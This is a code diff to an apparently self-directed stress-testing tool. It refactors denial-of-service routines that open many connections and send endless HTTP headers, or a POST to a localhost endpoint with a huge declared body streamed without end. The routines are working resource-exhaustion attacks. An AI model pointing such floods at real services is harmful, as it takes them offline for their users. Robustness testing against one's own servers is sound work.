@@ -164,35 +164,29 @@ async def half_open(me: Attacker) -> None:
     await me.for_ever(one)
 
 
-@attack
-async def heads(me: Attacker) -> None:
-    """Of any size, on many connections."""
+async def flood(me: Attacker, head: bytes, more: bytes) -> None:
+    """On many connections: a beginning, and then the same again and again, without an end."""
 
     async def one() -> None:
         _reader, writer = await me.line()
         with contextlib.closing(writer):
-            writer.write(b"GET / HTTP/1.1\r\n")
+            writer.write(head)
             while True:
-                writer.write(b"x-more: " + b"a" * 60_000 + b"\r\n")
+                writer.write(more)
                 await writer.drain()
 
     await me.for_ever(one)
+
+
+@attack
+async def heads(me: Attacker) -> None:
+    await flood(me, b"GET / HTTP/1.1\r\n", b"x-more: " + b"a" * 60_000 + b"\r\n")
 
 
 @attack
 async def bodies(me: Attacker) -> None:
-    """Without an end."""
-
-    async def one() -> None:
-        _reader, writer = await me.line()
-        with contextlib.closing(writer):
-            writer.write(b"POST /api/records HTTP/1.1\r\nhost: localhost\r\n")
-            writer.write(b"content-type: application/json\r\ncontent-length: 9999999999\r\n\r\n")
-            while True:
-                writer.write(b"a" * 60_000)
-                await writer.drain()
-
-    await me.for_ever(one)
+    head = b"POST /api/records HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n"
+    await flood(me, head + b"content-length: 9999999999\r\n\r\n", b"a" * 60_000)
 
 
 @attack
